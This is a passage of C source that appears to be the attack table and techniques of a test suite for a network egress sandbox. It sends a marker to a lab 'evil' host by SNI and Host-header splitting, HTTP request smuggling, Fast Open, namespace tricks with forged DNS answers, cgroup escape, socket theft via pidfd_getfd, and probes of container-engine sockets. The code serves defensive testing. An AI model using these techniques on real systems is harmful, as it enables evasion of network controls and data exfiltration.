		hello.name_len = 18;
	}
	if (way == H_SUFFIX)
		hello.names[0] = "xone.test";
	len = sp_hello_build(&hello, a->try.marker, message, &cut);
	/* servers that do not join records (HAProxy) read the first: the name must be there whole
	 */
	if (way == H_ALLOWED_RECORDS)
		cut = len - SP_MARKER_LEN - 6;
	if (way == H_EMPTY_RECORD) {
		memcpy(buf, empty, sizeof(empty));
		at = sizeof(empty);
	}
	if (way == H_SEGMENTS || way == H_ALLOWED_SEGMENTS)
		*ret_cut = 5 + cut;
	return at + sp_record_build(message, len,
				    way == H_RECORDS || way == H_ALLOWED_RECORDS ? cut : 0,
				    buf + at);
}

static int send_pieces(struct sp_attack *a, int fd, const void *data, size_t len, size_t cut)
{
	const uint8_t *bytes = data;
	int r = cut ? sp_send_all(fd, bytes, cut) : 0;

	if (!r)
		r = sp_send_all(fd, bytes + cut, len - cut);
	return r ? r : sp_reset_wait(a, fd);
}

static int tls(struct sp_attack *a)
{
	int way = a->technique->way, family = a->technique->family, fd, r;
	uint8_t buf[2048];
	size_t len, cut;

	r = sp_resolve(family, "one.test");
	if (r)
		return sp_attack_broken(a, "look-up of an allowed name", r);
	fd = sp_tcp_connect(family, way == H_EVIL ? SP_AT_EVIL : SP_AT_SHARED, 443);
	if (fd < 0)
		return way == H_EVIL ? fd
				     : sp_attack_broken(a, "connection to an allowed host", fd);
	len = handshake(a, way, buf, &cut);
	return send_pieces(a, fd, buf, len, cut);
}

static int fastopen_tls(struct sp_attack *a)
{
	struct sockaddr_storage to;
	uint8_t buf[2048];
	size_t len, cut;
	socklen_t to_len;
	int fd, r;

	r = sp_resolve(AF_INET, "one.test");
	if (r)
		return sp_attack_broken(a, "look-up of an allowed name", r);
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, &one, sizeof(one)))
		return sp_attack_na(a, "TCP_FASTOPEN_NO_COOKIE: %s", strerror(errno));
	len = handshake(a, H_DENIED, buf, &cut);
	sp_lab_address(AF_INET, SP_AT_SHARED, 443, &to, &to_len);
	/* without waiting: a SYN that is dropped is sent again for minutes */
	fcntl(fd, F_SETFL, O_NONBLOCK);
	if (sendto(fd, buf, len, MSG_FASTOPEN | MSG_NOSIGNAL, (struct sockaddr *)&to, to_len) < 0 &&
	    errno != EINPROGRESS)
		return errno == EOPNOTSUPP && !a->try.inside
			       ? sp_attack_na(a, "net.ipv4.tcp_fastopen is off")
			       : -errno;
	return sp_reset_wait(a, fd);
}

enum { AGAIN_CONNECTED, AGAIN_ACCEPTED };

static int disconnect(int fd)
{
	struct sockaddr nobody = {.sa_family = AF_UNSPEC};

	return connect(fd, &nobody, sizeof(nobody)) ? -errno : 0;
}

/* A socket that an own client has connected to. */
static int accept_own(void)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_ANY)};
	int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	int client = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), fd;
	socklen_t len = sizeof(to);

	if (bind(listener, (struct sockaddr *)&to, len) || listen(listener, 1) ||
	    getsockname(listener, (struct sockaddr *)&to, &len))
		return -errno;
	/* not bound to loopback, from where it could go nowhere else */
	to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (connect(client, (struct sockaddr *)&to, len))
		return -errno;
	fd = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
	return fd < 0 ? -errno : fd;
}

/* A socket that was trusted for its first connection, and then makes another. */
static int again(struct sp_attack *a)
{
	struct sockaddr_storage to;
	uint8_t buf[2048];
	size_t size, cut;
	socklen_t len;
	int fd, r;

	r = sp_resolve(AF_INET, "one.test");
	if (r)
		return sp_attack_broken(a, "look-up of an allowed name", r);
	if (a->technique->way == AGAIN_ACCEPTED) {
		fd = accept_own();
		if (fd < 0)
			return sp_attack_broken(a, "connection to an own listener", fd);
	} else {
		struct sp_attack other = *a;

		memset(other.try.marker, 'x', SP_MARKER_LEN);
		fd = sp_tcp_connect(AF_INET, SP_AT_SHARED, 443);
		if (fd < 0)
			return sp_attack_broken(a, "connection to an allowed host", fd);
		size = handshake(&other, H_ALLOWED, buf, &cut);
		r = sp_send_all(fd, buf, size);
		if (r)
			return sp_attack_broken(a, "handshake with an allowed host", r);
	}
	r = disconnect(fd);
	if (r)
		return r;
	sp_lab_address(AF_INET, SP_AT_SHARED, 443, &to, &len);
	r = sp_tcp_connect_fd(fd, &to, len);
	if (r)
		return r;
	size = handshake(a, H_DENIED, buf, &cut);
	return send_pieces(a, fd, buf, size, 0);
}

/* ---- HTTP ----------------------------------------------------------------------------------- */

static const struct {
	const char *first;  /* a segment of its own */
	const char *second; /* NULL: none. %s: the marker */
} requests[] = {
	{NULL, "GET / HTTP/1.1\r\nHost: two.test\r\nX: %s\r\n\r\n"},
	{NULL, "GET / HTTP/1.0\r\nX: %s\r\n\r\n"},
	{NULL, "GET / HTTP/1.1\r\nHost: one.test\r\nHost: two.test\r\nX: %s\r\n\r\n"},
	{NULL, "GET http://two.test/ HTTP/1.1\r\nHost: one.test\r\nX: %s\r\n\r\n"},
	{"GET / HTTP/1.1\r\nHost: tw", "o.test\r\nX: %s\r\n\r\n"},
	{"GET / HTTP/1.1\r\nHost: one.test\r\n\r\n",
	 "GET / HTTP/1.1\r\nHost: two.test\r\nX: %s\r\n\r\n"},
	{NULL, "GET / HTTP/1.1\r\nHost: one.test\r\n\r\n"
	       "GET / HTTP/1.1\r\nHost: two.test\r\nX: %s\r\n\r\n"},
	{NULL, "POST / HTTP/1.1\r\nHost: one.test\r\nContent-Length: 5\r\n"
	       "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
	       "GET / HTTP/1.1\r\nHost: two.test\r\nX: %s\r\n\r\n"},
	{NULL, "EHLO %s\r\n"},
	{NULL, "GET / HTTP/1.1\r\nHost: one.test\r\nX: %s\r\n\r\n"},
	{"GET / HTTP/1.1\r\nHost: on", "e.test\r\nX: %s\r\n\r\n"},
	{"GET / HTTP/1.1\r\nHost: one.test\r\n\r\n",
	 "GET / HTTP/1.1\r\nHost: one.test\r\nX: %s\r\n\r\n"},
};

enum {
	R_OTHER,
	R_NONE,
	R_TWO,
	R_ABSOLUTE,
	R_SPLIT,
	R_KEPT,
	R_PIPELINED,
	R_SMUGGLED,
	R_PLAIN,
	R_ALLOWED,
	R_ALLOWED_SPLIT,
	R_ALLOWED_KEPT,
};

static int connect_http(struct sp_attack *a)
{
	int r = sp_resolve(a->technique->family, "one.test");

	if (r)
		return sp_attack_broken(a, "look-up of an allowed name", r);
	r = sp_tcp_connect(a->technique->family, SP_AT_SHARED, 80);
	return r < 0 ? sp_attack_broken(a, "connection to an allowed host", r) : r;
}

static int http(struct sp_attack *a)
{
	const char *first = requests[a->technique->way].first;
	char text[512] = "";
	int fd = connect_http(a), len = 0;

	if (fd < 0)
		return fd;
	if (first)
		len = snprintf(text, sizeof(text), "%s", first);
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral"
	snprintf(text + len, sizeof(text) - (size_t)len, requests[a->technique->way].second,
		 a->try.marker);
#pragma GCC diagnostic pop
	return send_pieces(a, fd, text, strlen(text), (size_t)len);
}

/* What the receiver takes out of the stream that is inspected (RFC 6093). */
static int urgent(struct sp_attack *a)
{
	static const char head[] = "GET / HTTP/1.1\r\n";
	int fd = connect_http(a), r;

	if (fd < 0)
		return fd;
	r = sp_send_all(fd, head, sizeof(head) - 1);
	if (r)
		return sp_attack_broken(a, "first line of a request", r);
	if (send(fd, a->try.marker, SP_MARKER_LEN, MSG_OOB | MSG_NOSIGNAL) < 0)
		return -errno;
	return sp_reset_wait(a, fd);
}

/* ---- QUIC, datagrams ------------------------------------------------------------------------ */

enum { U_INITIAL, U_SHORT, U_ELSEWHERE, U_ALLOWED };

static int datagram(struct sp_attack *a)
{
	/* long header, Initial, version 1, connection ids of 8 and 0 bytes, no token (RFC 9000) */
	static const uint8_t initial[] = {0xc3, 0, 0, 0, 1, 8, 1, 2,	3,
					  4,	5, 6, 7, 8, 0, 0, 0x44, 0x9e};
	int way = a->technique->way, family = a->technique->family, fd, r;
	uint8_t buf[1200] = {0};
	size_t len = sizeof(buf);
	struct sockaddr_storage to;
	socklen_t to_len;

	r = sp_resolve(family, "good.test");
	if (r)
		return sp_attack_broken(a, "look-up of an allowed name", r);
	memcpy(buf, initial, sizeof(initial));
	memcpy(buf + 100, a->try.marker, SP_MARKER_LEN);
	if (way == U_SHORT)
		buf[0] = 0x43;
	if (way == U_ALLOWED) {
		memcpy(buf, a->try.marker, SP_MARKER_LEN);
		len = SP_MARKER_LEN;
	}
	sp_lab_address(family, SP_AT_GOOD, way >= U_ELSEWHERE ? SP_UDP_PORT : 443, &to, &to_len);
	fd = socket(family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return sp_attack_broken(a, "socket", -errno);
	return sendto(fd, buf, len, 0, (struct sockaddr *)&to, to_len) < 0 ? -errno : 0;
}

/* ---- out of the sandbox itself -------------------------------------------------------------- */

static int write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC), r = 0;

	if (fd < 0)
		return -errno;
	if (write(fd, text, strlen(text)) < 0)
		r = -errno;
	close(fd);
	return r;
}

/* After a step that should have made a difference: a new socket, and out. */
static int send_from_new(struct sp_attack *a, int step)
{
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	int r = fd < 0 ? -errno : send_evil(a, fd);

	if (step)
		snprintf(a->note, sizeof(a->note), "the move: %s", strerror(-step));
	return r;
}

enum { LEAVE_WRITE, LEAVE_ROOT };

static int leave_cgroup(struct sp_attack *a)
{
	char path[sizeof(a->try.procs) + 40];

	if (a->technique->way == LEAVE_ROOT)
		snprintf(path, sizeof(path), "/proc/%d/root%s", a->try.outsider, a->try.procs);
	else
		snprintf(path, sizeof(path), "%s", a->try.procs);
	return send_from_new(a, write_file(path, "0"));
}

static int nested(void)
{
	return unshare(CLONE_NEWUSER | CLONE_NEWNET) ? -errno : 0;
}

/* Full capabilities in namespaces of one's own: does a raw socket come of it? */
static int nested_raw(struct sp_attack *a)
{
	int r = nested();

	if (r)
		return a->try.inside ? r : sp_attack_na(a, "user namespaces: %s", strerror(-r));
	return socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW) < 0 ? -errno : 0;
}

/* In a child: the resolver's address on an own lo, and an own answer. */
static int lie(void)
{
	struct ifreq up = {.ifr_name = "lo", .ifr_flags = IFF_UP | IFF_LOOPBACK | IFF_RUNNING};
	struct ifreq address = {.ifr_name = "lo:1"};
	struct sockaddr_storage resolver, from, evil;
	socklen_t len, from_len = sizeof(from), evil_len;
	uint8_t asked[300], got[600];
	int server, client, r = nested();
	size_t size;
	ssize_t had;

	if (r)
		return r;
	sp_lab_address(AF_INET, SP_AT_RESOLVER, 53, &resolver, &len);
	sp_lab_address(AF_INET, SP_AT_EVIL, 0, &evil, &evil_len);
	server = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	client = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	memcpy(&address.ifr_addr, &resolver, sizeof(struct sockaddr_in));
	((struct sockaddr_in *)&address.ifr_addr)->sin_port = 0;
	if (ioctl(server, SIOCSIFFLAGS, &up) || ioctl(server, SIOCSIFADDR, &address) ||
	    bind(server, (struct sockaddr *)&resolver, len))
		return -errno;
	size = sp_dns_question(asked, 9, "forged.test", 1);
	if (sendto(client, asked, size, 0, (struct sockaddr *)&resolver, len) < 0)
		return -errno;
	had = recvfrom(server, got, 300, 0, (struct sockaddr *)&from, &from_len);
	if (had < 12)
		return -EIO;
	got[2] |= 0x81;
	got[7] = 1;
	memcpy(got + had, "\300\14\0\1\0\1\0\0\0\74\0\4", 12);
	memcpy(got + had + 12, &((struct sockaddr_in *)&evil)->sin_addr, 4);
	if (sendto(server, got, (size_t)had + 16, 0, (struct sockaddr *)&from, from_len) < 0 ||
	    recv(client, asked, sizeof(asked), 0) < 0)
		return -errno;
	return 0;
}

static int nested_resolver(struct sp_attack *a)
{
	int status = 0;
	pid_t pid = fork();

	if (!pid) {
		alarm(5);
		_exit(-lie() & 0x7f);
	}
	while (pid > 0 && waitpid(pid, &status, 0) < 0 && errno == EINTR)
		;
	if (!WIFEXITED(status))
		return sp_attack_broken(a, "an own resolver", -ETIMEDOUT);
	if (WEXITSTATUS(status) && !a->try.inside)
		return sp_attack_na(a, "user namespaces: %s", strerror(WEXITSTATUS(status)));
	if (WEXITSTATUS(status))
		snprintf(a->note, sizeof(a->note), "the resolver: %s",
			 strerror(WEXITSTATUS(status)));
	return connect_at(a, SP_AT_EVIL);
}

/* ---- other processes ------------------------------------------------------------------------ */

/* A descriptor that was open before the start. Which one is known: an attacker would try all. */
static int inherited(struct sp_attack *a)
{
	return send_evil(a, a->try.socket);
}

static int passed(struct sp_attack *a)
{
	if (a->try.given < 0)
		return sp_attack_broken(a, "a socket over SCM_RIGHTS", -EBADF);
	return send_evil(a, a->try.given);
}

static int stolen(struct sp_attack *a)
{
	int pidfd = (int)syscall(SYS_pidfd_open, a->try.outsider, 0), fd;

	if (pidfd < 0)
		return -errno;
	fd = (int)syscall(SYS_pidfd_getfd, pidfd, a->try.socket, 0);
	return fd < 0 ? sp_attack_traced(a, -errno) : send_evil(a, fd);
}

static int read_memory(struct sp_attack *a)
{
	char byte;
	struct iovec to = {.iov_base = &byte, .iov_len = 1};
	struct iovec from = {.iov_base = (void *)(uintptr_t)a->try.memory, .iov_len = 1};

	return sp_attack_traced(
		a, process_vm_readv(a->try.outsider, &to, 1, &from, 1, 0) < 0 ? -errno : 0);
}

static int call_bpf(struct sp_attack *a)
{
	union bpf_attr attr = {0};

	(void)a;
	return syscall(SYS_bpf, BPF_PROG_GET_NEXT_ID, &attr, sizeof(attr)) < 0 ? -errno : 0;
}

static int see_pins(struct sp_attack *a)
{
	struct stat st;

	if (!stat("/sys/fs/bpf/sallyport", &st))
		return 0;
	return a->try.inside ? -errno : sp_attack_na(a, "the programs are pinned elsewhere");
}

/* A key of type dns_resolver makes a helper of root's look a name up; this only asks for a ring. */
static int call_keyctl(struct sp_attack *a)
{
	if (syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_THREAD_KEYRING, 1) >= 0)
		return 0;
	return a->try.inside ? -errno : sp_attack_na(a, "keyctl: %s", strerror(errno));
}

/* Connects to the first of these, and says nothing there. */
static int connect_first(struct sp_attack *a, const char *root, const char *const *paths,
			 size_t len, const char *none)
{
	int r = 0;

	for (size_t i = 0; i < len; i++) {
		struct sockaddr_un to = {.sun_family = AF_UNIX};
		int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), error;

		snprintf(to.sun_path, sizeof(to.sun_path), "%s%s", root, paths[i]);
		error = connect(fd, (struct sockaddr *)&to, sizeof(to)) ? -errno : 0;
		close(fd);
		if (!error) {
			snprintf(a->note, sizeof(a->note), "%s", paths[i]);
			return 0;
		}
		r = r ? r : error;
	}
	return a->try.inside ? r : sp_attack_na(a, "%s", none);
}

static int resolver_sockets(struct sp_attack *a)
{
	static const char *const paths[] = {"/run/systemd/resolve/io.systemd.Resolve",
					    "/run/nscd/socket", "/var/run/nscd/socket",
					    "/var/run/.nscd_socket", "/run/avahi-daemon/socket"};

	return connect_first(a, "", paths, sizeof(paths) / sizeof(paths[0]),
			     "no nscd, systemd-resolved or avahi runs here");
}

static int helper_sockets(struct sp_attack *a)
{
	static const char *const paths[] = {
		"/run/dbus/system_bus_socket",
		"/run/docker.sock",
		"/run/containerd/containerd.sock",
		"/run/podman/podman.sock",
		"/run/crio/crio.sock",
		"/run/systemd/private",
		"/run/snapd.socket",
		"/run/libvirt/libvirt-sock",
		"/var/lib/incus/unix.socket",
		"/var/lib/lxd/unix.socket",
	};
	char root[40] = "";
	int fd;

	if (a->technique->way) { /* by the file system as a process outside sees it */
		fd = sp_neighbour_root(a);
		if (fd < 0)
			return fd;
		snprintf(root, sizeof(root), "/proc/self/fd/%d", fd);
	}
	return connect_first(a, root, paths, sizeof(paths) / sizeof(paths[0]),
			     "no system bus or container engine runs here");
}

static int foreign_tcp(struct sp_attack *a)
{
	struct sockaddr_in to = {.sin_family = AF_INET,
				 .sin_port = htons(a->try.tcp4),
				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	struct sockaddr_in6 to6 = {.sin6_family = AF_INET6,
				   .sin6_port = htons(a->try.tcp6),
				   .sin6_addr = IN6ADDR_LOOPBACK_INIT};
	struct sockaddr_storage address = {0};
	bool v6 = a->technique->family == AF_INET6;
	int fd = socket(v6 ? AF_INET6 : AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), r;

	if (fd < 0)
		return sp_attack_broken(a, "socket", -errno);
	if (v6)
		memcpy(&address, &to6, sizeof(to6));
	else
		memcpy(&address, &to, sizeof(to));
	r = sp_tcp_connect_fd(fd, &address, v6 ? sizeof(to6) : sizeof(to));
	return r ? r : sp_send_all(fd, a->try.marker, SP_MARKER_LEN);
}

static int foreign_udp(struct sp_attack *a)
{
	struct sockaddr_in to = {.sin_family = AF_INET,
				 .sin_port = htons(a->try.udp4),
				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return sp_attack_broken(a, "socket", -errno);
	return sendto(fd, a->try.marker, SP_MARKER_LEN, 0, (struct sockaddr *)&to, sizeof(to)) < 0
		       ? -errno
		       : 0;
}

static int abstract(struct sp_attack *a)
{
	struct sockaddr_un to = {.sun_family = AF_UNIX};
	size_t len = strlen(a->try.abstract);
	int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return sp_attack_broken(a, "socket", -errno);
	memcpy(to.sun_path + 1, a->try.abstract, len);
	return sendto(fd, a->try.marker, SP_MARKER_LEN, 0, (struct sockaddr *)&to,
		      (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + len)) < 0
		       ? -errno
		       : 0;
}

/* DNS over TLS: the trusted resolver, at another port. */
static int resolver_tls(struct sp_attack *a)
{
	int fd = sp_tcp_connect(AF_INET, SP_AT_RESOLVER, 853);

	return fd < 0 ? fd : sp_send_all(fd, a->try.marker, SP_MARKER_LEN);
}

/* ---- what must go on working ---------------------------------------------------------------- */

static int allowed_port(struct sp_attack *a)
{
	int r = sp_resolve(a->technique->family, "good.test");

	return r ? sp_attack_broken(a, "look-up of an allowed name", r) : connect_at(a, SP_AT_GOOD);
}

static int allowed_alias(struct sp_attack *a)
{
	int r = sp_resolve(a->technique->family, "alias.test");

	return r ? sp_attack_broken(a, "look-up of an allowed name", r)
		 : connect_at(a, SP_AT_SHARED);
}

static int own_listener(struct sp_attack *a)
{
	int fd = accept_own();

	(void)a;
	return fd < 0 ? fd : 0;
}

/* ---- the table ------------------------------------------------------------------------------ */

#define OUT SP_MUST_NOT_ARRIVE
#define CALL SP_MUST_FAIL
#define IN SP_MUST_ARRIVE
#define V6 SP_TECHNIQUE_IPV6
#define PAGE(kind, call) (SP_PAGE_##kind * SP_PAGE_CALLS + (call))

/* clang-format off */
const struct sp_technique sp_techniques[] = {
	{"what the policy allows",
	 "-", "dns", "look up an allowed name, UDP", IN, 0, dns_udp, AF_INET, Q_ALLOWED},
	{NULL, "-", "dns-6", "the same over IPv6", IN, V6, dns_udp, AF_INET6, Q_ALLOWED},
	{NULL, "C6", "dns-case", "the same in mixed case", IN, 0, dns_udp, AF_INET, Q_ALLOWED_CASE},
	{NULL, "C1", "dns-tcp", "the same over TCP", IN, 0, dns_tcp, AF_INET, T_ALLOWED},
	{NULL, "-", "tls", "a handshake with the allowed name", IN, 0, tls, AF_INET, H_ALLOWED},
	{NULL, "-", "tls-6", "the same over IPv6", IN, V6, tls, AF_INET6, H_ALLOWED},
	{NULL, "D1", "tls-segments", "the same in two segments", IN, 0, tls, AF_INET, H_ALLOWED_SEGMENTS},
	{NULL, "D2", "tls-records", "the same in two records", IN, 0, tls, AF_INET, H_ALLOWED_RECORDS},
	{NULL, "-", "http", "a request with the allowed Host", IN, 0, http, AF_INET, R_ALLOWED},
	{NULL, "-", "http-6", "the same over IPv6", IN, V6, http, AF_INET6, R_ALLOWED},
	{NULL, "D12", "http-split", "the same in two segments", IN, 0, http, AF_INET, R_ALLOWED_SPLIT},
	{NULL, "D12", "http-kept", "a second request to it", IN, 0, http, AF_INET, R_ALLOWED_KEPT},
	{NULL, "-", "tcp", "a port that a rule names, TCP", IN, 0, allowed_port, AF_INET, 0},
	{NULL, "-", "tcp-6", "the same over IPv6", IN, V6, allowed_port, AF_INET6, 0},
	{NULL, "-", "udp", "a port that a rule names, UDP", IN, 0, datagram, AF_INET, U_ALLOWED},
	{NULL, "-", "udp-6", "the same over IPv6", IN, V6, datagram, AF_INET6, U_ALLOWED},
	{NULL, "C10", "cname", "a name that is an alias", IN, 0, allowed_alias, AF_INET, 0},
	{NULL, "A13", "sendfile", "the body of a request by sendfile()", IN, 0, sp_attack_sendfile, AF_INET, 0},
	{NULL, "D14", "alert", "an alert before the handshake", IN, 0, sp_attack_lenient, AF_INET, SP_ALLOWED_ALERT},
	{NULL, "D14", "ssh", "SSH to a port that a rule names", IN, 0, sp_attack_lenient, AF_INET, SP_ALLOWED_SSH},
	{NULL, "B6", "own-listener", "a listener of the sandbox's own", SP_MUST_WORK, 0, own_listener, AF_INET, 0},

	{"bare addresses",
	 "A1", "connect", "TCP to an address that no name led to", OUT, 0, tcp_bare, AF_INET, 0},
	{NULL, "A1", "connect-6", "the same over IPv6", OUT, V6, tcp_bare, AF_INET6, 0},
	{NULL, "A10", "connect-mapped", "the same as ::ffff:a.b.c.d", OUT, V6, tcp_bare, SP_MAPPED, 0},
	{NULL, "A1", "sendto", "UDP, sendto()", OUT, 0, udp_bare, AF_INET, SENDTO},
	{NULL, "A1", "sendto-6", "the same over IPv6", OUT, V6, udp_bare, AF_INET6, SENDTO},
	{NULL, "A10", "sendto-mapped", "the same as ::ffff:a.b.c.d", OUT, V6, udp_bare, SP_MAPPED, SENDTO},
	{NULL, "A1", "send", "UDP, connect() and send()", OUT, 0, udp_bare, AF_INET, SEND},
	{NULL, "A1", "send-6", "the same over IPv6", OUT, V6, udp_bare, AF_INET6, SEND},
	{NULL, "A1", "sendmsg", "UDP, sendmsg()", OUT, 0, udp_bare, AF_INET, SENDMSG},
	{NULL, "A1", "sendmmsg", "UDP, sendmmsg()", OUT, 0, udp_bare, AF_INET, SENDMMSG},
	{NULL, "A1", "writev", "UDP, writev()", OUT, 0, udp_bare, AF_INET, WRITEV},
	{NULL, "A1", "splice", "UDP, splice() from a pipe", OUT, 0, udp_bare, AF_INET, SPLICE},
	{NULL, "A2", "fastopen", "TCP Fast Open, data in the SYN", OUT, 0, fastopen_bare, AF_INET, 0},
	{NULL, "A2", "fastopen-6", "the same over IPv6", OUT, V6, fastopen_bare, AF_INET6, 0},
	{NULL, "A3", "io_uring", "connect by io_uring", OUT, 0, uring_connect, AF_INET, 0},
	{NULL, "A8", "mptcp", "Multipath TCP", OUT, 0, mptcp, AF_INET, 0},

	{"other sockets",
	 "A4", "raw-icmp", "raw socket, ICMP", OUT, 0, icmp, AF_INET, RAW},
	{NULL, "A4", "raw-icmp-6", "raw socket, ICMPv6", OUT, V6, icmp, AF_INET6, RAW},
	{NULL, "A4", "raw-header", "raw socket with an own IP header", OUT, 0, icmp, AF_INET, HEADER},
	{NULL, "A9", "ping", "ping socket, payload of an echo", OUT, 0, icmp, AF_INET, PING},
	{NULL, "A9", "ping-6", "the same over IPv6", OUT, V6, icmp, AF_INET6, PING},
	{NULL, "A5", "packet", "packet socket", OUT, 0, packet_socket, AF_INET, PACKET},
	{NULL, "A5", "packet-old", "packet socket by its old name", OUT, 0, packet_socket, AF_INET, PACKET_OLD},
	{NULL, "A5", "packet-joined", "packet socket of a process that `run` did not start", OUT,
	 SP_TECHNIQUE_JOINED | SP_TECHNIQUE_LSM, packet_socket, AF_INET, PACKET},
	{NULL, "A4", "raw-joined", "raw socket of a process that `run` did not start", OUT,
	 SP_TECHNIQUE_JOINED, icmp, AF_INET, HEADER},
	{NULL, "A9", "udplite", "UDP-Lite", OUT, 0, other_protocol, AF_INET, 0},
	{NULL, "A9", "sctp", "SCTP", OUT, 0, other_protocol, AF_INET, 1},
	{NULL, "A9", "dccp", "DCCP", OUT, 0, other_protocol, AF_INET, 2},
	{NULL, "A6", "families", "every other socket family", CALL, 0, families, AF_INET, 0},
	{NULL, "A6", "netlink", "every netlink protocol but ROUTE", CALL, 0, netlinks, AF_INET, 0},
	{NULL, "A6", "i386", "a packet socket by a system call of i386", CALL, 0, foreign_abi, AF_INET, I386},
	{NULL, "A6", "x32", "the same by x32", CALL, 0, foreign_abi, AF_INET, X32},

	{"another interface than the one that the routes name",
	 "A12", "wire", "to an own listener on 127.0.0.1, by the wire", OUT, 0, sp_attack_loopback_wire, AF_INET, 0},
	{NULL, "A12", "wire-6", "the same over IPv6", OUT, V6, sp_attack_loopback_wire, AF_INET6, 0},
	{NULL, "A12", "wire-mapped", "the same as ::ffff:127.0.0.1", OUT, V6, sp_attack_loopback_wire, SP_MAPPED, 0},
	{NULL, "A12", "link", "a datagram that is allowed, by another link", OUT, 0, sp_attack_other_link, AF_INET, 0},
	{NULL, "A12", "link-6", "the same over IPv6", OUT, V6, sp_attack_other_link, AF_INET6, 0},
	{NULL, "A12", "link-query", "a query that is allowed, by another link", OUT, 0, sp_attack_other_link, AF_INET, 1},
	{NULL, "A12", "link-query-6", "the same over IPv6", OUT, V6, sp_attack_other_link, AF_INET6, 1},

	{"pages that change after they were judged",
	 "A13", "page-query", "a query by sendfile()", OUT, 0, sp_attack_page, AF_INET, PAGE(DNS, 0)},
	{NULL, "A13", "page-query-6", "the same over IPv6", OUT, V6, sp_attack_page, AF_INET6, PAGE(DNS, 0)},
	{NULL, "A13", "page-query-pipe", "a query by splice()", OUT, 0, sp_attack_page, AF_INET, PAGE(DNS, 1)},
	{NULL, "A13", "page-query-tcp", "a query over TCP by sendfile()", OUT, 0, sp_attack_page, AF_INET, PAGE(DNS_TCP, 0)},
	{NULL, "A13", "page-sni", "a ClientHello by sendfile()", OUT, 0, sp_attack_page, AF_INET, PAGE(TLS, 0)},
	{NULL, "A13", "page-sni-6", "the same over IPv6", OUT, V6, sp_attack_page, AF_INET6, PAGE(TLS, 0)},
	{NULL, "A13", "page-sni-pipe", "a ClientHello by splice()", OUT, 0, sp_attack_page, AF_INET, PAGE(TLS, 1)},
	{NULL, "A13", "page-sni-gift", "a ClientHello by vmsplice()", OUT, 0, sp_attack_page, AF_INET, PAGE(TLS, 2)},
	{NULL, "A13", "page-host", "a request by sendfile()", OUT, 0, sp_attack_page, AF_INET, PAGE(HTTP, 0)},
	{NULL, "A13", "page-host-6", "the same over IPv6", OUT, V6, sp_attack_page, AF_INET6, PAGE(HTTP, 0)},

	{"socket options, on a flow that is allowed",
	 "A11", "ttl", "a TTL of 1", OUT, 0, option, AF_INET, TTL},
	{NULL, "A11", "hops-6", "a hop limit of 1", OUT, V6, option, AF_INET6, HOPS6},
	{NULL, "A11", "ttl-long", "a TTL in an option that is read twice", OUT, 0, option, AF_INET, TTL_LONG},
	{NULL, "A11", "hops-long-6", "a hop limit likewise", OUT, V6, option, AF_INET6, HOPS6_LONG},
	{NULL, "F2", "ip-options", "IPv4 source route", OUT, 0, option, AF_INET, IPOPTIONS},
	{NULL, "F2", "ip-options-msg", "the same as a part of one message", OUT, 0, option_message, AF_INET, 0},
	{NULL, "F1", "rthdr-6", "IPv6 routing header", OUT, V6, option, AF_INET6, RTHDR},
	{NULL, "F1", "rthdr-msg-6", "the same as a part of one message", OUT, V6, option_message, AF_INET6, 0},
	{NULL, "A11", "device", "SO_BINDTODEVICE", OUT, 0, option, AF_INET, DEVICE},
	{NULL, "A11", "mark", "SO_MARK", OUT, 0, option, AF_INET, MARK},
	{NULL, "A11", "zerocopy", "SO_ZEROCOPY", OUT, 0, option, AF_INET, ZEROCOPY},
	{NULL, "A11", "freebind", "IP_FREEBIND: an address of somebody else", OUT, 0, option, AF_INET, FREEBIND},
	{NULL, "A11", "freebind-6", "IPV6_FREEBIND", OUT, V6, option, AF_INET6, FREEBIND6},
	{NULL, "A11", "transparent", "IP_TRANSPARENT", OUT, 0, option, AF_INET, TRANSPARENT},

	{"DNS",
	 "C7", "name", "a denied name, UDP", OUT, 0, dns_udp, AF_INET, Q_DENIED},
	{NULL, "C7", "name-6", "the same over IPv6", OUT, V6, dns_udp, AF_INET6, Q_DENIED},
	{NULL, "C7", "name-closed", "the same, the socket closed at once", OUT, 0, dns_udp, AF_INET, Q_CLOSED},
	{NULL, "C7", "name-closed-6", "the same over IPv6", OUT, V6, dns_udp, AF_INET6, Q_CLOSED},
	{NULL, "C6", "name-case", "a denied name in mixed case", OUT, 0, dns_udp, AF_INET, Q_CASE},
	{NULL, "C1", "name-tcp", "a denied name over TCP", OUT, 0, dns_tcp, AF_INET, T_DENIED},
	{NULL, "C1", "name-tcp-6", "the same over TCP and IPv6", OUT, V6, dns_tcp, AF_INET6, T_DENIED},
	{NULL, "C2", "tcp-split", "the same, its length in a segment of its own", OUT, 0, dns_tcp, AF_INET, T_SPLIT},
	{NULL, "C2", "tcp-byte", "the same, the first byte by itself", OUT, 0, dns_tcp, AF_INET, T_BYTE},
	{NULL, "C2", "tcp-pipelined", "the same, behind an allowed query", OUT, 0, dns_tcp, AF_INET, T_PIPELINED},
